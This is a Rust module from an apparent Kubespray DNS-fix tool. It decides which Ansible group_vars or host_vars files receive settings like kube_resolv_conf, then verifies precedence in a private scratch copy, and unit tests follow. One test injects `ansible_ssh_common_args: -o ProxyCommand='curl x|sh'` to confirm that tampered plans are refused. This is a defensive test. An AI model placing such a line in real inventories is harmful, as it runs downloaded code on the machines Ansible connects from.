//! The local inventory changes that keep node fixes from being reverted by the next
//! Kubespray run (`inventory_set`): which group_vars file to edit, and the edit itself,
//! made with the same in-place YAML editor as the kubelet config.
//!
//! Where a key goes: the group_vars file that already sets it (in what Ansible reads for
//! `k8s_cluster` where that group holds the hosts, then `all`), else Kubespray's own
//! `group_vars/all/all.yml`, else the file Ansible reads for `all`, else a new
//! `group_vars/all/dnsfix.yml`. Only keys every host agrees on are set at group level;
//! hosts that disagree are reported instead. A node's own setting ([`PER_NODE`]: the
//! kubelet's resolv.conf, a path that must exist on that node) goes to the group only
//! where every host Kubespray configures asked for the same value, else into each asking
//! host's `host_vars`: a group value would reach the nodes dnsfix did not plan
//! (`--limit`, a later `scale.yml`), where the file may not exist.
//!
//! Every change is then checked the way Kubespray will see it: the inventory is loaded
//! again with the changes made (in a scratch copy); a host that still gets another value
//! (a host_vars file, a narrower group or an inline host variable outranks the file
//! edited) gets a note naming where that value comes from.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value as Json;

use super::model::InventoryChange;
use crate::edit::{YamlValue, yaml_set};
use crate::inventory::{Host, Inventory};
use crate::util::sha256_hex;

/// Keys whose value is a node's own: set per host unless every host of the cluster asked
/// for the same value. Kubespray renders `resolvConf: "{{ kube_resolv_conf }}"` on every
/// node (roles/kubernetes/node/templates/kubelet-config.v1beta1.yaml.j2), a path that must
/// exist there, and `nameservers` into every node's own resolver (preinstall's
/// nameserverentries), where one node's servers may not be another's.
pub const PER_NODE: &[&str] = &["kube_resolv_conf", "nameservers"];

/// dnsfix's own directory on a node (`/etc/dnsfix/resolv.conf`): a path there exists only on
/// the nodes dnsfix wrote it on. Kubespray does not create it, so as a group's
/// kube_resolv_conf it would reach a node a later scale.yml adds, whose kubelet then starts
/// no pod ("Could not open resolv conf file"): such a value is always set per host.
const DNSFIX_DIR: &str = "/etc/dnsfix/";

/// Whether `change` sets a value in dnsfix's own directory on the node
/// (`kube_resolv_conf: /etc/dnsfix/resolv.conf`): a file that exists only where the fix
/// wrote it.
pub fn names_a_dnsfix_file(change: &crate::plan::model::InventoryChange) -> bool {
    change.settings.iter().any(|s| {
        s.split_once(": ")
            .is_some_and(|(_, value)| value.trim_matches(['"', '\'']).starts_with(DNSFIX_DIR))
    })
}

/// Notes for `host` where a group of it sets dnsfix's own file as kube_resolv_conf (an older
/// dnsfix set it so, or a hand did): Kubespray renders that path into the kubelet config of a
/// node a later scale.yml adds to the group, which has no such file, and whose kubelet then
/// starts no pod. The group's own value is judged, whatever the current hosts override in
/// host_vars: the inventory keeps it for the next node, where some leaf group under it
/// still inherits it (a child group's own value beats it for the leaves under that child:
/// [`Inventory::group_var_inherited`]). Where Kubespray's distro vars set
/// kube_resolv_conf for this node's OS (`distro`: its roles/kubernetes/node/vars, which
/// include_vars loads over group and host vars: Ubuntu 18.04 to 24.04, Fedora), the value
/// reaches no node of that OS, only one of another.
pub fn group_dnsfix_file_notes(
    inventory: &Inventory,
    host: &Host,
    distro: Option<&str>,
) -> Vec<String> {
    let key = "kube_resolv_conf";
    let mut notes = Vec::new();
    for group in &host.groups {
        let Some((value, origin)) = inventory.group_var(group, key) else {
            continue;
        };
        let Some(value) = value.as_str().filter(|v| v.starts_with(DNSFIX_DIR)) else {
            continue;
        };
        // A child group that sets its own value for every leaf under it: no new node gets it.
        if !inventory.group_var_inherited(group, key) {
            continue;
        }
        let reaches = match distro {
            Some(path) => format!(
                "Kubespray's roles/kubernetes/node/vars for this node's OS set {key}: {path} \
                 over group and host vars, so it reaches no such node, but a node of another \
                 OS (not Ubuntu 18.04 to 24.04 or Fedora) a later scale.yml adds to the group \
                 gets it, and its kubelet starts no pod"
            ),
            None => "Kubespray gives it to every node of the group, and the kubelet of a node \
                     a later scale.yml adds starts no pod"
                .to_owned(),
        };
        notes.push(format!(
            "the inventory sets {key}: {} for group {} ({}): dnsfix's own file, which is only \
             on the nodes dnsfix wrote it on; {reaches} (\"Could not open resolv conf \
             file\"): set it in host_vars of the nodes that have the file instead, and take \
             it out of the group's",
            crate::text::escape(value),
            crate::text::escape(group),
            crate::text::escape(&origin.to_string())
        ));
    }
    notes
}

/// One requested setting and the hosts that need it.
#[derive(Debug, Clone)]
pub struct Wanted {
    pub key: String,
    pub value: Json,
    pub hosts: Vec<String>,
}

/// The inventory's base directory: the directory given to `-i`, or the file's directory.
pub fn base_dir(inventory: &Path) -> PathBuf {
    if inventory.is_dir() {
        inventory.to_path_buf()
    } else {
        inventory
            .parent()
            .map_or_else(|| PathBuf::from("."), Path::to_path_buf)
    }
}

/// sha256 over the inventory's files (the `-i` path, group_vars and host_vars), each as
/// `path\0content\0`, in path order, each path relative to the inventory's directory: the
/// same inventory spelled another way (`./hosts.ini`, from another working directory) or
/// copied elsewhere has the same digest, and only a change of what it holds is noticed.
pub fn digest(inventory: &Path) -> String {
    let mut files = Vec::new();
    if inventory.is_file() {
        files.push(inventory.to_path_buf());
    }
    let base = base_dir(inventory);
    let mut stack = vec![base.join("group_vars"), base.join("host_vars")];
    if inventory.is_dir() {
        stack.push(inventory.to_path_buf());
    }
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                if path.parent() != Some(inventory) || !inventory.is_dir() {
                    stack.push(path);
                }
            } else {
                files.push(path);
            }
        }
    }
    files.sort();
    files.dedup();
    let mut all = Vec::new();
    for path in files {
        let name = path.strip_prefix(&base).unwrap_or(&path);
        all.extend_from_slice(name.display().to_string().as_bytes());
        all.push(0);
        all.extend_from_slice(&std::fs::read(&path).unwrap_or_default());
        all.push(0);
    }
    sha256_hex(&all)
}

/// The file a group-level key belongs in (see the module docs): the file of `k8s_cluster`
/// (whose value beats all's for Kubespray's hosts), then of `all`, that sets it now; else
/// Kubespray's own `group_vars/all/all.yml`, else the file Ansible reads for `all`, else a
/// new `group_vars/all/dnsfix.yml`. A group's file counts only where the group holds one of
/// `hosts` at least: Ansible gives a `group_vars/` file to the hosts of its group alone, and
/// one left from an older layout (`group_vars/k8s-cluster/` where the inventory no longer
/// defines that group, which Kubespray's dynamic groups do not form) reaches none. A host
/// asking from outside the group (an etcd-only host) keeps its value, which a note says;
/// the group's nodes, whose value that file decides, get the change.
fn target_file(inventory: &Inventory, base: &Path, key: &str, hosts: &[String]) -> PathBuf {
    let root = base.join("group_vars");
    let holds = |group: &str| {
        group == "all"
            || inventory
                .group_members(group)
                .is_some_and(|members| hosts.iter().any(|h| members.contains(&h.as_str())))
    };
    for group in ["k8s_cluster", "k8s-cluster", "all"] {
        if !holds(group) {
            continue;
        }
        if let Some(file) = chosen(&root, group).and_then(|c| setting_file(&c, key)) {
            return file;
        }
    }
    match chosen(&root, "all") {
        Some(dir) if dir.is_dir() => {
            let all = dir.join("all.yml");
            if all.is_file() {
                all
            } else {
                dir.join("dnsfix.yml")
            }
        }
        Some(file) => file,
        None => root.join("all").join("dnsfix.yml"),
    }
}

/// The file of `host`'s own variables to set `key` in: in the one Ansible reads, the file
/// that sets `key` (or a new `dnsfix.yml`) where it is a directory; else a new
/// `host_vars/<host>.yml`.
fn host_file(base: &Path, host: &str, key: &str) -> PathBuf {
    let root = base.join("host_vars");
    match chosen(&root, host) {
        Some(dir) if dir.is_dir() => {
            setting_file(&dir, key).unwrap_or_else(|| dir.join("dnsfix.yml"))
        }
        Some(file) => file,
        None => root.join(format!("{host}.yml")),
    }
}

/// The variables file or directory Ansible reads for `name` under `root` (`group_vars` or
/// `host_vars`): the first of its candidates that exists (see the inventory's vars_dirs).
fn chosen(root: &Path, name: &str) -> Option<PathBuf> {
    crate::inventory::vars_candidates(root, name)
        .into_iter()
        .find(|p| p.exists())
}

/// In `chosen`, a file or a directory whose files Ansible reads in merge order (the
/// loader's own list), the file that sets `key` last, if one does.
fn setting_file(chosen: &Path, key: &str) -> Option<PathBuf> {
    if !chosen.is_dir() {
        return defines(chosen, key).then(|| chosen.to_path_buf());
    }
    crate::inventory::vars_dir_files(chosen)
        .ok()?
        .into_iter()
        .rev()
        .find(|p| defines(p, key))
}

/// Whether the YAML file at `path` sets top-level `key`.
fn defines(path: &Path, key: &str) -> bool {
    std::fs::read_to_string(path)
        .ok()
        .and_then(|text| serde_norway::from_str::<serde_norway::Value>(&text).ok())
        .is_some_and(|v| v.get(key).is_some())
}

/// A key, its value and the hosts that need it.
type Setting = (String, Json, Vec<String>);

/// Whether `hosts` are every host Kubespray configures (`k8s_cluster`, else the whole
/// inventory).
fn whole_cluster(inventory: &Inventory, hosts: &[String]) -> bool {
    let members: Vec<&str> = inventory
        .group_members("k8s_cluster")
        .unwrap_or_else(|| inventory.hosts().iter().map(|h| h.name.as_str()).collect());
    members.iter().all(|m| hosts.iter().any(|h| h == m))
}

/// Turns the wanted settings into file edits. Returns the changes and, per host, notes for
/// settings that could not be made, or that a higher-precedence value would still beat.
pub fn changes(
    inventory: &Inventory,
    wanted: &[Wanted],
) -> (Vec<InventoryChange>, BTreeMap<String, Vec<String>>) {
    let Some(path) = inventory.path() else {
        return (Vec::new(), BTreeMap::new());
    };
    let base = base_dir(path);
    let mut notes: BTreeMap<String, Vec<String>> = BTreeMap::new();
    // Group the agreed keys by target file, keeping the order they were asked for.
    let mut by_key: Vec<(String, Vec<&Wanted>)> = Vec::new();
    for w in wanted {
        match by_key.iter_mut().find(|(k, _)| *k == w.key) {
            Some((_, list)) => list.push(w),
            None => by_key.push((w.key.clone(), vec![w])),
        }
    }
    let mut by_file: Vec<(PathBuf, Vec<Setting>)> = Vec::new();
    let mut place =
        |path: PathBuf, entry: Setting| match by_file.iter_mut().find(|(p, _)| *p == path) {
            Some((_, list)) => list.push(entry),
            None => by_file.push((path, vec![entry])),
        };
    for (key, list) in by_key {
        let per_node = PER_NODE.contains(&key.as_str());
        // A file only dnsfix writes is on no node a later scale.yml adds: never the group's.
        let dnsfix_file = list
            .iter()
            .any(|w| w.value.as_str().is_some_and(|v| v.starts_with(DNSFIX_DIR)));
        if per_node
            && (dnsfix_file || !(list.len() == 1 && whole_cluster(inventory, &list[0].hosts)))
        {
            for w in &list {
                for host in &w.hosts {
                    let entry = (key.clone(), w.value.clone(), vec![host.clone()]);
                    place(host_file(&base, host, &key), entry);
                }
            }
            continue;
        }
        if list.len() > 1 {
            let shown: Vec<String> = list
                .iter()
                .map(|w| format!("{} on {}", show(&w.value), w.hosts.join(", ")))
                .collect();
            for w in &list {
                for host in &w.hosts {
                    notes.entry(host.clone()).or_default().push(format!(
                        "hosts need different values of {key} ({}): set it per group or host in \
                         the inventory by hand, or Kubespray will undo the fix",
                        shown.join("; ")
                    ));
                }
            }
            continue;
        }
        let w = list[0];
        let path = target_file(inventory, &base, &key, &w.hosts);
        place(path, (key, w.value.clone(), w.hosts.clone()));
    }
    let mut out = Vec::new();
    let mut placed: Vec<Setting> = Vec::new();
    for (path, settings) in by_file {
        match edit_file(&path, &settings) {
            Ok(change) => {
                out.extend(change);
                placed.extend(settings);
            }
            Err(message) => {
                for (_, _, needs) in &settings {
                    for host in needs {
                        notes.entry(host.clone()).or_default().push(format!(
                            "the inventory cannot be updated automatically ({message}); set it \
                             by hand or Kubespray will undo the fix"
                        ));
                    }
                }
            }
        }
    }
    for (host, message) in still_beaten(inventory, &out, &placed) {
        notes.entry(host).or_default().push(message);
    }
    (out, notes)
}

/// The edit of the variables file at `path` that sets `settings`: `None` where it holds
/// them all already; `Err` where it cannot be edited in place.
fn edit_file(path: &Path, settings: &[Setting]) -> Result<Option<InventoryChange>, String> {
    let before = std::fs::read_to_string(path).ok();
    if before
        .as_deref()
        .is_some_and(crate::inventory::vault_encrypted)
    {
        return Err(format!(
            "{}: encrypted with ansible-vault, which dnsfix does not decrypt",
            path.display()
        ));
    }
    let mut text = before.clone().unwrap_or_default();
    let mut shown = Vec::new();
    let mut hosts: Vec<String> = Vec::new();
    // A key asked for twice in one file (two tasks, one host) is written once, with the
    // last value, which the file holds in the end: written in turn, yaml_set would keep
    // the first value's quoting or list style, which a saved plan's check (plan::saved)
    // does not replay. Its hosts are those of every asking.
    for (i, (key, value, _)) in settings.iter().enumerate() {
        if settings[i + 1..].iter().any(|(k, _, _)| k == key) {
            continue;
        }
        let needs = settings
            .iter()
            .filter(|(k, _, _)| k == key)
            .flat_map(|(_, _, n)| n);
        let yaml = match value {
            Json::Array(items) => YamlValue::List(
                items
                    .iter()
                    .map(|i| i.as_str().map_or_else(|| i.to_string(), str::to_string))
                    .collect(),
            ),
            Json::String(s) => YamlValue::String(s.clone()),
            other => YamlValue::String(other.to_string()),
        };
        let edit =
            yaml_set::set(&text, key, &yaml).map_err(|e| format!("{}: {e}", path.display()))?;
        if edit.changed {
            text = edit.text;
            shown.push(format!("{key}: {}", show(value)));
            for h in needs {
                if !hosts.contains(h) {
                    hosts.push(h.clone());
                }
            }
        }
    }
    if shown.is_empty() {
        return Ok(None);
    }
    Ok(Some(InventoryChange {
        path: path.display().to_string(),
        before_sha256: before.as_ref().map(|b| sha256_hex(b.as_bytes())),
        before,
        after_sha256: Some(sha256_hex(text.as_bytes())),
        content: text,
        settings: shown,
        hosts,
    }))
}

/// The hosts that, with `changes` made, would still not get the value they asked for, each
/// with a note naming the value that wins and where it is set: the inventory loaded again
/// from a scratch copy of its files with the changes in place (with no change to make, as
/// loaded: a file that already holds the value may be outranked too). `placed`: the
/// settings that went into a file, each with the hosts that asked for it.
fn still_beaten(
    inventory: &Inventory,
    changes: &[InventoryChange],
    placed: &[Setting],
) -> Vec<(String, String)> {
    let Some(path) = inventory.path() else {
        return Vec::new();
    };
    let base = base_dir(path);
    let scratch = std::env::temp_dir().join(format!("dnsfix-inventory-{}", crate::util::nonce()));
    let reloaded;
    let after = if changes.is_empty() {
        inventory
    } else {
        let loaded = copy_with_changes(&base, path, &scratch, changes)
            .and_then(|copy| Inventory::load(&copy).map_err(|e| e.to_string()));
        let _ = std::fs::remove_dir_all(&scratch);
        let Ok(loaded) = loaded else {
            return Vec::new();
        };
        reloaded = loaded;
        &reloaded
    };
    let mut out = Vec::new();
    for (key, value, hosts) in placed {
        for name in hosts {
            let Some(host) = after.host(name) else {
                continue;
            };
            let got = host.var(key).cloned();
            if got.as_ref() == Some(value) {
                continue;
            }
            let from = host.origins.get(key).map(|o| {
                let shown = o.to_string();
                shown.replacen(
                    &scratch.display().to_string(),
                    &base.display().to_string(),
                    1,
                )
            });
            // The file dnsfix edits either loses to the host's source or is one of a group
            // the host is not in (an etcd-only host beside k8s_cluster's nodes).
            let why = match from {
                Some(from) => format!(
                    "its value comes from {from}, which outranks the file dnsfix edits or is \
                     read where that file is not (a group the host is not in); set it to {} \
                     there",
                    show(value)
                ),
                None => format!(
                    "the file dnsfix edits is not read for it (a group the host is not in); \
                     set it to {} in its host_vars",
                    show(value)
                ),
            };
            out.push((
                name.clone(),
                format!(
                    "{key} stays {got} for this host after the inventory change: {why}, or \
                     Kubespray undoes the fix",
                    got = got.as_ref().map_or_else(|| "unset".to_owned(), show),
                ),
            ));
        }
    }
    out
}

/// A copy of what the inventory is read from (the `-i` file, or the files of the `-i`
/// directory the loader reads; group_vars and host_vars) in a new private directory
/// `scratch`, with `changes` written; the copy's `-i` path. Nothing else of the inventory's
/// directory (Kubespray keeps credentials/ and artifacts/ there) is copied.
fn copy_with_changes(
    base: &Path,
    inventory: &Path,
    scratch: &Path,
    changes: &[InventoryChange],
) -> Result<PathBuf, String> {
    use std::os::unix::fs::DirBuilderExt;
    let io = |e: std::io::Error| e.to_string();
    std::fs::DirBuilder::new()
        .mode(0o700)
        .create(scratch)
        .map_err(io)?;
    let mut files = if inventory.is_dir() {
        crate::inventory::source_files(inventory).map_err(|e| e.to_string())?
    } else {
        vec![inventory.to_path_buf()]
    };
    let mut stack = vec![base.join("group_vars"), base.join("host_vars")];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let from = entry.path();
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(from);
            } else {
                files.push(from);
            }
        }
    }
    for from in files {
        let to = scratch.join(from.strip_prefix(base).map_err(|e| e.to_string())?);
        std::fs::create_dir_all(to.parent().unwrap_or(scratch)).map_err(io)?;
        std::fs::copy(&from, &to).map_err(io)?;
    }
    for change in changes {
        let to = scratch.join(
            Path::new(&change.path)
                .strip_prefix(base)
                .map_err(|e| e.to_string())?,
        );
        std::fs::create_dir_all(to.parent().unwrap_or(scratch)).map_err(io)?;
        std::fs::write(&to, &change.content).map_err(io)?;
    }
    Ok(scratch.join(inventory.strip_prefix(base).unwrap_or(Path::new(""))))
}

/// A value as a setting shows it (`key: VALUE`): a string as it is, a list in brackets.
pub(super) fn show(value: &Json) -> String {
    match value {
        Json::String(s) => s.clone(),
        Json::Array(items) => format!(
            "[{}]",
            items
                .iter()
                .map(|i| i.as_str().map_or_else(|| i.to_string(), str::to_string))
                .collect::<Vec<_>>()
                .join(", ")
        ),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The digest is of what the inventory holds: the same files spelled from another
    /// directory, or copied elsewhere, give the same one; an edit another.
    #[test]
    fn the_digest_is_of_the_contents_not_of_how_the_path_is_spelled() {
        let (dir, _) = inventory(&[(
            "group_vars/all/all.yml",
            "upstream_dns_servers: [192.0.2.53]\n",
        )]);
        let hosts = dir.join("hosts.yaml");
        let dotted = dir.join(".").join("hosts.yaml");
        assert_eq!(digest(&hosts), digest(&dotted));
        let (copy, _) = inventory(&[(
            "group_vars/all/all.yml",
            "upstream_dns_servers: [192.0.2.53]\n",
        )]);
        assert_eq!(digest(&hosts), digest(&copy.join("hosts.yaml")));
        std::fs::write(
            dir.join("group_vars/all/all.yml"),
            "upstream_dns_servers: [192.0.2.54]\n",
        )
        .expect("write");
        assert_ne!(digest(&hosts), digest(&copy.join("hosts.yaml")));
    }

    /// A Kubespray-shaped inventory in a fresh directory: `hosts.yaml` with node1 and node2
    /// in k8s_cluster, and the given files under it.
    fn inventory(files: &[(&str, &str)]) -> (crate::testing::Scratch, Inventory) {
        let dir = crate::testing::Scratch::new("invchange");
        std::fs::write(
            dir.join("hosts.yaml"),
            "all:\n  hosts:\n    node1:\n    node2:\n  children:\n    kube_node:\n      hosts:\n        node1:\n        node2:\n    k8s_cluster:\n      children:\n        kube_node:\n",
        )
        .expect("hosts");
        for (path, text) in files {
            let path = dir.join(path);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            std::fs::write(path, text).expect("write");
        }
        let inventory = Inventory::load(&dir.join("hosts.yaml")).expect("loads");
        (dir, inventory)
    }

    fn wanted(key: &str, value: impl Into<Json>, hosts: &[&str]) -> Wanted {
        Wanted {
            key: key.to_owned(),
            value: value.into(),
            hosts: hosts.iter().map(|h| (*h).to_owned()).collect(),
        }
    }

    fn paths(dir: &Path, changes: &[InventoryChange]) -> Vec<String> {
        changes
            .iter()
            .map(|c| {
                c.path
                    .strip_prefix(&format!("{}/", dir.display()))
                    .unwrap_or(&c.path)
                    .to_owned()
            })
            .collect()
    }

    /// A group's kube_resolv_conf that names dnsfix's own file (an older dnsfix's) is
    /// noted on every host of the group, also where each overrides it in host_vars (the
    /// group's value still reaches a node a later scale.yml adds); worded for a node whose
    /// OS Kubespray's distro vars give their own; per host alone it is not noted.
    #[test]
    fn a_group_kube_resolv_conf_of_dnsfix_s_own_file_is_noted() {
        let notes = |inv: &Inventory, host: &str, distro: Option<&str>| {
            group_dnsfix_file_notes(inv, inv.host(host).expect("host"), distro)
        };
        let (_dir, inv) = inventory(&[(
            "group_vars/k8s_cluster/dnsfix.yml",
            "kube_resolv_conf: /etc/dnsfix/resolv.conf\n",
        )]);
        for host in ["node1", "node2"] {
            let notes = notes(&inv, host, None);
            assert!(
                notes[0].starts_with(
                    "the inventory sets kube_resolv_conf: /etc/dnsfix/resolv.conf for group k8s_cluster ("
                ) && notes[0].contains("Kubespray gives it to every node of the group, and the kubelet of a node a later scale.yml adds starts no pod"),
                "{notes:?}"
            );
        }
        let ubuntu = notes(&inv, "node1", Some("/run/systemd/resolve/resolv.conf"));
        assert!(
            ubuntu[0].contains("Kubespray's roles/kubernetes/node/vars for this node's OS set kube_resolv_conf: /run/systemd/resolve/resolv.conf over group and host vars, so it reaches no such node")
                && !ubuntu[0].contains("every node of the group"),
            "{ubuntu:?}"
        );
        // Every current host overrides it: the group's value is still there for the next.
        let (_dir, inv) = inventory(&[
            (
                "group_vars/k8s_cluster/dnsfix.yml",
                "kube_resolv_conf: /etc/dnsfix/resolv.conf\n",
            ),
            (
                "host_vars/node1.yml",
                "kube_resolv_conf: /run/systemd/resolve/resolv.conf\n",
            ),
            (
                "host_vars/node2.yml",
                "kube_resolv_conf: /run/systemd/resolve/resolv.conf\n",
            ),
        ]);
        assert_eq!(notes(&inv, "node1", None).len(), 1);
        assert_eq!(notes(&inv, "node2", None).len(), 1);
        let (_dir, inv) = inventory(&[(
            "host_vars/node1.yml",
            "kube_resolv_conf: /etc/dnsfix/resolv.conf\n",
        )]);
        assert!(notes(&inv, "node1", None).is_empty());
        // kube_node, the only leaf under k8s_cluster, sets its own: a node a later scale.yml
        // adds to it gets kube_node's value (deeper groups win), never k8s_cluster's.
        let (_dir, inv) = inventory(&[
            (
                "group_vars/k8s_cluster/dnsfix.yml",
                "kube_resolv_conf: /etc/dnsfix/resolv.conf\n",
            ),
            (
                "group_vars/kube_node.yml",
                "kube_resolv_conf: /run/systemd/resolve/resolv.conf\n",
            ),
        ]);
        assert!(notes(&inv, "node1", None).is_empty());
        assert!(!inv.group_var_inherited("k8s_cluster", "kube_resolv_conf"));
        assert!(inv.group_var_inherited("kube_node", "kube_resolv_conf"));
        let (_dir, inv) = inventory(&[(
            "group_vars/k8s_cluster/all.yml",
            "kube_resolv_conf: /run/systemd/resolve/resolv.conf\n",
        )]);
        assert!(notes(&inv, "node1", None).is_empty());
    }

    /// The kubelet's resolv.conf is a node's own: set for the group only where every host
    /// of the cluster asked for the same path, else in each asking host's host_vars (a
    /// group value would reach nodes without the file at the next cluster.yml), and
    /// dnsfix's own file always per host (a node scale.yml adds later has none).
    #[test]
    fn a_node_path_goes_to_the_group_only_where_every_node_asked() {
        let all = [(
            "group_vars/all/all.yml",
            "---\nloadbalancer_apiserver_localhost: true\n",
        )];
        let (dir, inv) = inventory(&all);
        let one = [wanted(
            "kube_resolv_conf",
            "/etc/dnsfix/resolv.conf",
            &["node1"],
        )];
        let (changes, notes) = changes(&inv, &one);
        assert_eq!(paths(&dir, &changes), ["host_vars/node1.yml"]);
        assert_eq!(changes[0].before, None);
        assert_eq!(
            changes[0].content,
            "kube_resolv_conf: /etc/dnsfix/resolv.conf\n"
        );
        assert!(notes.is_empty(), "{notes:?}");

        let both = [wanted(
            "kube_resolv_conf",
            "/run/systemd/resolve/resolv.conf",
            &["node1", "node2"],
        )];
        assert_eq!(
            paths(&dir, &changes_of(&inv, &both)),
            ["group_vars/all/all.yml"]
        );
        // dnsfix's own file is on no node a later scale.yml adds: per host even where every
        // node asked for it.
        let both = [wanted(
            "kube_resolv_conf",
            "/etc/dnsfix/resolv.conf",
            &["node1", "node2"],
        )];
        assert_eq!(
            paths(&dir, &changes_of(&inv, &both)),
            ["host_vars/node1.yml", "host_vars/node2.yml"]
        );

        let split = [
            wanted("kube_resolv_conf", "/etc/dnsfix/resolv.conf", &["node1"]),
            wanted(
                "kube_resolv_conf",
                "/run/systemd/resolve/resolv.conf",
                &["node2"],
            ),
        ];
        assert_eq!(
            paths(&dir, &changes_of(&inv, &split)),
            ["host_vars/node1.yml", "host_vars/node2.yml"]
        );
    }

    fn changes_of(inv: &Inventory, wanted: &[Wanted]) -> Vec<InventoryChange> {
        changes(inv, wanted).0
    }

    /// A saved plan's inventory edit sets the keys its settings name to the values they
    /// say, and no other: one edited to add a connection variable, to change another key,
    /// or to set another value is refused (`show` and `apply` read it through
    /// [`crate::plan::saved`]).
    #[test]
    fn an_inventory_edit_sets_only_what_its_settings_say() {
        let all = [(
            "group_vars/all/all.yml",
            "---\n# Kubespray's sample\nloadbalancer_apiserver_localhost: true\nkube_cert_dir_mode: \"0750\"\nupstream_dns_servers: [192.0.2.53]\n",
        )];
        let (_dir, inv) = inventory(&all);
        let w = [
            wanted(
                "upstream_dns_servers",
                serde_json::json!(["192.0.2.1", "192.0.2.2"]),
                &["node1", "node2"],
            ),
            wanted(
                "kube_resolv_conf",
                "/run/systemd/resolve/resolv.conf",
                &["node1", "node2"],
            ),
        ];
        let (changes, _) = changes(&inv, &w);
        assert_eq!(changes.len(), 1, "{changes:?}");
        let check = crate::plan::saved::check_inventory_change;
        check(&changes[0]).expect("as made");

        let with = |f: &dyn Fn(&mut InventoryChange)| {
            let mut c = changes[0].clone();
            f(&mut c);
            c.after_sha256 = Some(sha256_hex(c.content.as_bytes()));
            check(&c).expect_err("refused")
        };
        let why = with(&|c| {
            c.content
                .push_str("ansible_ssh_common_args: -o ProxyCommand='curl x|sh'\n");
        });
        assert!(why.contains("ansible_ssh_common_args"), "{why}");
        let why = with(&|c| {
            c.content = c.content.replace(
                "loadbalancer_apiserver_localhost: true",
                "loadbalancer_apiserver_localhost: false",
            );
        });
        assert!(why.contains("loadbalancer_apiserver_localhost"), "{why}");
        // The same string to YAML 1.2, octal 488 to Ansible's YAML 1.1.
        let why = with(&|c| c.content = c.content.replace("\"0750\"", "0750"));
        assert!(why.contains("kube_cert_dir_mode"), "{why}");
        let why = with(&|c| c.content = c.content.replace("192.0.2.2", "203.0.113.66"));
        assert!(why.contains("another value than its settings say"), "{why}");
        let why = with(&|c| c.settings.push("ansible_host: 203.0.113.66".into()));
        assert!(why.contains("connection variable"), "{why}");

        // One host asked for a key twice (two tasks): written once, with the last value, so
        // the check's replay writes what the plan wrote (in turn, the first value's quoting
        // or list style stayed).
        let (_dir, inv) = inventory(&[("host_vars/node1.yml", "---\n# node1\nip: 192.0.2.11\n")]);
        for (first, last) in [
            (
                serde_json::json!("yes"),
                serde_json::json!("/etc/dnsfix/resolv.conf"),
            ),
            (serde_json::json!([]), serde_json::json!(["192.0.2.9"])),
            (
                serde_json::json!("192.0.2.9"),
                serde_json::json!(["192.0.2.9"]),
            ),
        ] {
            let key = if first.is_array() || last.is_array() {
                "nameservers"
            } else {
                "kube_resolv_conf"
            };
            let w = [
                wanted(key, first, &["node1"]),
                wanted(key, last.clone(), &["node1"]),
            ];
            let (twice, _) = super::changes(&inv, &w);
            assert_eq!(twice.len(), 1, "{twice:?}");
            check(&twice[0]).unwrap_or_else(|e| panic!("{key}: {e}"));
            assert_eq!(twice[0].settings, [format!("{key}: {}", show(&last))]);
        }
    }

    /// A group file that holds the value already needs no change, but a host whose own
    /// value outranks it is still told where that value is set; hosts that disagree on
    /// a value, which nothing is written for, get only the note that says so.
    #[test]
    fn a_value_held_already_but_outranked_is_named_and_disagreement_only_once() {
        let files = [
            ("group_vars/all.yml", "upstream_dns_servers: [192.0.2.53]\n"),
            (
                "host_vars/node2.yml",
                "upstream_dns_servers: [192.0.2.99]\n",
            ),
        ];
        let (_dir, inv) = inventory(&files);
        let w = [wanted(
            "upstream_dns_servers",
            serde_json::json!(["192.0.2.53"]),
            &["node2"],
        )];
        let (changes, notes) = changes(&inv, &w);
        assert!(changes.is_empty(), "{changes:?}");
        assert!(
            notes["node2"][0].starts_with("upstream_dns_servers stays [192.0.2.99]"),
            "{notes:?}"
        );
        let split = [
            wanted(
                "upstream_dns_servers",
                serde_json::json!(["192.0.2.1"]),
                &["node1"],
            ),
            wanted(
                "upstream_dns_servers",
                serde_json::json!(["192.0.2.2"]),
                &["node2"],
            ),
            wanted("kube_resolv_conf", "/etc/dnsfix/resolv.conf", &["node1"]),
        ];
        let (_, notes) = super::changes(&inv, &split);
        assert_eq!(notes["node1"].len(), 1, "{notes:?}");
        assert!(
            notes["node1"][0].starts_with("hosts need different values"),
            "{notes:?}"
        );
    }

    /// The scratch copy holds what the inventory is read from, privately: not the rest of
    /// a directory given to -i (Kubespray keeps credentials/ there).
    #[test]
    fn the_scratch_copy_is_the_inventory_only_and_private() {
        use std::os::unix::fs::PermissionsExt;
        let (dir, _inv) = inventory(&[
            ("group_vars/all.yml", "a: 1\n"),
            ("credentials/kubeadm_certificate_key.creds", "secret\n"),
        ]);
        let scratch = dir.join("scratch");
        let copy = copy_with_changes(&dir, &dir, &scratch, &[]).expect("copies");
        assert_eq!(copy, scratch);
        assert!(scratch.join("hosts.yaml").is_file());
        assert!(scratch.join("group_vars/all.yml").is_file());
        assert!(!scratch.join("credentials").exists());
        let mode = std::fs::metadata(&scratch)
            .expect("scratch")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o700);
    }

    /// A group key goes where Ansible reads it: with both group_vars/all/ and
    /// group_vars/all.yml, Ansible reads the directory alone (the first of its candidates
    /// that exists), so an edit of all.yml would change nothing; k8s_cluster's file wins
    /// over all's where both set the key.
    #[test]
    fn a_group_key_goes_where_ansible_reads_it() {
        let w = [wanted(
            "upstream_dns_servers",
            "192.0.2.53",
            &["node1", "node2"],
        )];
        let (dir, inv) = inventory(&[
            ("group_vars/all.yml", "a: 1\n"),
            ("group_vars/all/main.yml", "b: 1\n"),
        ]);
        assert_eq!(
            paths(&dir, &changes_of(&inv, &w)),
            ["group_vars/all/dnsfix.yml"]
        );
        let (dir, inv) = inventory(&[
            ("group_vars/all/all.yml", "upstream_dns_servers: []\n"),
            (
                "group_vars/k8s_cluster/k8s-cluster.yml",
                "upstream_dns_servers: []\n",
            ),
        ]);
        assert_eq!(
            paths(&dir, &changes_of(&inv, &w)),
            ["group_vars/k8s_cluster/k8s-cluster.yml"]
        );
